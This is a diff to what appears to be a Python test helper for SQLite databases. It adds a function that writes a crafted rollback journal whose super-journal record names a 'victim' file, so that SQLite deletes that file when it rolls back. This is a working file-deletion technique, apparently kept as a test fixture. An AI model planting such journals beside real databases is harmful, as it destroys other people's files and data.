@@ -2,6 +2,7 @@
 
 import contextlib
 import sqlite3
+import struct
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -61,3 +62,14 @@ def run_sql(*statements: str) -> Callable[[Path], None]:
             database.commit()
 
     return run
+
+
+JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
+
+
+def write_super_journal(database: Path, victim: str) -> None:
+    """Write a journal beside a database that SQLite rolls back, and then deletes the file that the journal names."""
+    page, name = 4096, victim.encode()
+    header = JOURNAL_MAGIC + struct.pack(">5I", 0, 0, database.stat().st_size // page, 512, page)
+    end = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + JOURNAL_MAGIC
+    Path(f"{database}-journal").write_bytes(header.ljust(512, b"\0") + end)
